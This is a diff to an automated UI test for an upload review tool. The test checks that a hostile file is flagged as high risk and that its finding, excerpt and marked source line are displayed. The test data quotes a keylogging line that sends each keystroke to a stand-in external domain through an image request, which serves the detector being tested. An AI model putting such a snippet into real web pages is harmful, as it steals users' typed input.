@@ -50,10 +50,13 @@ test('a hostile upload shows a high-risk badge in the review list and its findin
       '脚本读取键盘输入并发送到外部域名 collect.keysink.example.net（图片地址）：疑似窃取用户输入',
     ),
   ).toBeVisible();
+  // The excerpt is in the table; the location opens the file with that line marked.
+  const line3 =
+    'document.addEventListener("keydown", function (e) { new Image().src = u + "?k=" + e.key; });';
+  await expect(page.locator('.check-findings').getByText(line3)).toBeVisible();
   await page.getByRole('button', { name: 'js/note.js:3' }).click();
-  const excerpt = page.getByLabel('js/note.js:3 摘录');
-  await expect(excerpt).toContainText(
-    'document.addEventListener("keydown", function (e) { new Image().src = u + "?k=" + e.key; });',
-  );
+  const file = page.getByLabel('js/note.js:3 文件内容');
+  await expect(file).toContainText('// 自动保存');
+  await expect(file.locator('.finding-source__line--current')).toHaveText(`3${line3}`);
   await expect(page.getByText('collect.keysink.example.net').first()).toBeVisible();
 });
